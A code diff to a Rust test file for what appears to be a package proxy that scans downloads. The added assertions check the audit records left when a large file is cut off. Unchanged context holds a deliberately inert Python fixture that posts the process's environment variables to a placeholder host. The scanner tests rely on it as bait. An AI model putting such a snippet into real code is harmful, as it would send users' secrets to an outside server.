@@ -4,6 +4,7 @@ use std::time::Duration;
 
 use fanlight_testkit::{Advisory, Clients, Release, State, Upstream, get, wait_for};
 use fanlight_tests::{listed, record_of, records_of};
+use serde_json::Value;
 
 /// Reads as theft and does nothing: no variable of that name is ever set, and nobody imports it here.
 const THEFT: &str = "import os, urllib.request\nif os.environ.get('NEVER_SET_ANYWHERE'):\n    urllib.request.urlopen('http://c.example.invalid', data=str(os.environ).encode())\n";
@@ -51,6 +52,19 @@ fn a_large_file_is_cut_at_its_end_and_the_next_try_is_told_why() {
     let first = get(&node.file("large", file)).is(200);
     assert!(!first.complete && first.body.len() <= whole - 64 * 1024, "{} of {whole} bytes", first.body.len());
     assert!(first.body.len() > 30 << 20, "it flowed meanwhile: {} bytes", first.body.len());
+    // Why it was cut is a decision of its own beside the one that let it begin, and how much had gone out stands there, too.
+    let of_first = |record: &Value| record["request"].as_str() == first.request_id();
+    let told = wait_for("the records of the cut", Duration::from_secs(10), || {
+        let told: Vec<_> = state.records().into_iter().filter(of_first).collect();
+        told.iter().any(|record| record["facts"]["delivery"] == "cut").then_some(told)
+    });
+    let outcomes: Vec<_> =
+        told.iter().map(|record| record["decision"]["outcome"].as_str().expect("an outcome")).collect();
+    assert_eq!(outcomes, ["allow", "hold", "allow"], "{told:?}");
+    assert_eq!(told[1]["decision"]["policies"], serde_json::json!(["scan-found"]));
+    assert!(told[2]["facts"]["bytes"].as_u64().is_some_and(|bytes| bytes > 30 << 20), "{told:?}");
+    let who = state.cli(&["who", "pkg:pypi/large@1.0", "--json"]).ok().json();
+    assert!(who["refused"].as_array().is_some_and(|refused| !refused.is_empty()), "{who}");
     get(&node.file("large", file)).says(FOUND);
     let vast = get(&node.file("vast", "vast-1.0-py3-none-any.whl")).is(200);
     assert!(vast.complete);
